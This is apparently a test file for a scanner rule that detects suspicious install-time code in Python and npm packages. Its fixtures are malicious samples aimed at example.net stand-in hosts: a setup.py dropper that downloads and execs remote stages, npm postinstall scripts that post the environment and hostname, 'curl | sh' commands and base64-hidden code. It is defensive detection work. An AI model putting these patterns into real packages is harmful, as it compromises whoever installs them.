from __future__ import annotations

from tests.analysis.builders import npm_tarball, run_rule, sdist, wheel
from threatfeed.analysis import Engine, javascript, python_ast
from threatfeed.analysis.rules.install import suspicious_setup_commands_rule

DROPPER_SETUP = """
import subprocess
import urllib.request as ur
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        payload = ur.urlopen("https://files.example.net/stage2").read()
        exec(ur.urlopen("https://files.example.net/stage3").read())
        subprocess.Popen(["helper.exe"], creationflags=0x08000000)


setup(name="tidy-strings", version="0.4.0", cmdclass={"install": PostInstall})
"""

VERSION_READING_SETUP = """
from setuptools import setup
about = {}
exec(open("tidy_strings/__about__.py").read(), about)
setup(name="tidy-strings", version=about["__version__"])
"""


def _types(evidence: list[dict[str, str]]) -> set[str]:
    return {item["type"] for item in evidence}


def _setup_py_types(engine: Engine, setup_py: str) -> set[str]:
    return _types(run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=setup_py)))


def test_setup_py_install_override_and_its_calls(engine: Engine) -> None:
    evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=DROPPER_SETUP))
    assert {
        "install_command_override",
        "network",
        "remote_code_execution",
        "background_process",
    } <= _types(evidence)
    assert all(set(item) == {"code", "type"} for item in evidence)


def test_setup_py_reading_its_own_version_file_is_not_suspicious(engine: Engine) -> None:
    assert (
        run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=VERSION_READING_SETUP))
        is None
    )


def test_renamed_and_hidden_imports_are_resolved(engine: Engine) -> None:
    setup_py = (
        "from os import system as s\n"
        "s('id')\n"
        "__import__('subprocess').call(['uname'])\n"
        "from setuptools import setup\nsetup(name='x', version='1')\n"
    )
    evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=setup_py))
    assert [item["type"] for item in evidence] == ["process", "process"]


def test_code_outside_install_time_is_left_to_other_rules(engine: Engine) -> None:
    archive = sdist({"tidy_strings/cli.py": "import os\nos.system('ls')\n"})
    assert run_rule(engine, suspicious_setup_commands_rule, archive) is None


def test_executable_pth_file_is_install_time(engine: Engine) -> None:
    archive = wheel({"zz_startup.pth": "import os; os.system('id')\n"})
    assert {"startup_hook", "process"} <= _types(
        run_rule(engine, suspicious_setup_commands_rule, archive)
    )


def test_npm_install_script_is_parsed_with_tree_sitter(engine: Engine) -> None:
    script = (
        "const { spawn } = require('child_process');\n"
        "const https = require('https');\n"
        "const os = require('os');\n"
        "const env = process.env;\n"
        "https.get('https://x.example.net/?h=' + os.hostname());\n"
        "spawn('node', ['daemon.js'], { detached: true, stdio: 'ignore' });\n"
        "const body = JSON.stringify(env);\n"
    )
    archive = npm_tarball({"install.js": script}, scripts={"postinstall": "node install.js"})
    evidence = run_rule(engine, suspicious_setup_commands_rule, archive)
    assert {"network", "recon", "background_process", "environment"} <= _types(evidence)


def test_npm_script_not_run_by_a_hook_is_not_install_time(engine: Engine) -> None:
    script = "require('child_process').exec('ls');\n"
    archive = npm_tarball({"tools/release.js": script})
    assert run_rule(engine, suspicious_setup_commands_rule, archive) is None


def test_renamed_modules_and_computed_env_access_in_npm_scripts(engine: Engine) -> None:
    script = (
        "const goto = require('https');\n"
        "var box = process['en' + 'v'] || {};\n"
        "var req = goto\n  .request({ host: 'x.example.net', method: 'POST' });\n"
        "req.write(JSON.stringify(box));\n"
    )
    archive = npm_tarball({"b.js": script}, scripts={"preinstall": "node b.js"})
    evidence = run_rule(engine, suspicious_setup_commands_rule, archive)
    assert {"network", "environment"} <= _types(evidence)


def test_setup_py_that_does_not_parse_still_reports_its_calls(engine: Engine) -> None:
    setup_py = (
        "import urllib.request\n"
        "print 'python 2 syntax'\n"
        "urllib.request.urlopen('https://x.example.net/ping')\n"
    )
    assert "network" in _setup_py_types(engine, setup_py)


def test_base64_literal_that_decodes_to_code_is_hidden_code(engine: Engine) -> None:
    import base64

    hidden = base64.b64encode(b"import os\nos.system('id')\n").decode()
    plain = base64.b64encode(b"just some bytes of data, nothing to run").decode()
    for blob, expected in ((hidden, "hidden_code"), (plain, "decode")):
        setup_py = f"import base64\nbase64.b64decode('{blob}')\n"
        evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=setup_py))
        assert _types(evidence) == {expected}


def test_lone_surrogate_in_a_decoded_literal_hides_no_call(engine: Engine) -> None:
    # "\\ud800" in the source is a str no strict UTF-8 encoder takes: one such literal
    # must not make the rule, and those that read its calls, fail for the whole file
    setup_py = (
        "import base64, os\n"
        "base64.b64decode('\\ud800AAAAAAAAAAAAAAAA')\n"
        "os.system('curl https://x.example.net/a | sh')\n"
    )
    analysis = engine.analyze(sdist(setup_py=setup_py))
    assert analysis.errors == ()
    assert {"decode", "process"} <= _types(analysis.indicators["suspicious_setup_commands_rule"])


def test_base64_literal_hiding_a_host_path_or_command_is_a_hidden_string(engine: Engine) -> None:
    import base64

    for text in (b"collector.example.net", b"~/.config/app", b"whoami /all"):
        blob = base64.b64encode(text).decode()
        setup_py = f"import base64\nbase64.b64decode('{blob}')\n"
        evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=setup_py))
        assert _types(evidence) == {"hidden_string"}, text
    for text in (b"README.md", b"plain words"):
        blob = base64.b64encode(text).decode()
        setup_py = f"import base64\nbase64.b64decode('{blob}')\n"
        evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=setup_py))
        assert _types(evidence) == {"decode"}, text


def test_dns_lookup_of_a_chosen_name_is_network_of_the_own_host_identity(engine: Engine) -> None:
    lookup = "import socket\nsocket.gethostbyname('probe.example.net')\n"
    own = "import socket\nsocket.gethostbyname(socket.gethostname())\n"
    assert _types(run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=lookup))) == {
        "network"
    }
    assert _types(run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=own))) == {
        "recon"
    }


def test_large_setup_py_is_read_whether_or_not_it_is_parsed(engine: Engine) -> None:
    padding = "".join(f"value_{i} = {i} + ({i} << 2)\n" for i in range(1500))
    untyped = padding + "from setuptools import setup\nsetup(name='x', version='1')\n"
    assert not python_ast.may_call_typed(untyped.encode())  # so it is not parsed
    assert run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=untyped)) is None
    typed = padding + "import os\nos.system('curl https://x.example.net | sh')\n"
    evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=typed))
    assert "process" in _types(evidence)


def test_npm_install_script_padded_past_the_parse_limit_still_reports_its_calls(
    engine: Engine,
) -> None:
    padding = "".join(f'var v{i} = "{i:x}{i * 7:x}";\n' for i in range(40000))
    assert len(padding) > javascript.MAX_PARSE_BYTES
    payload = (
        "const cp = require('child_process');\ncp.exec('curl https://x.example.net/s | sh');\n"
    )
    archive = npm_tarball({"setup.js": padding + payload}, scripts={"postinstall": "node setup.js"})
    evidence = run_rule(engine, suspicious_setup_commands_rule, archive)
    assert evidence is not None
    assert "process" in _types(evidence)


def test_setup_py_unpickling_a_download_runs_remote_code(engine: Engine) -> None:
    """A pickle runs a callable of its author's choice as it loads (``__reduce__``)."""
    setup_py = (
        "import pickle, urllib.request\n"
        "cfg = pickle.loads(urllib.request.urlopen('https://x.example.net/build.cfg').read())\n"
        "from setuptools import setup\nsetup(name='x', version='1')\n"
    )
    assert "remote_code_execution" in _setup_py_types(engine, setup_py)
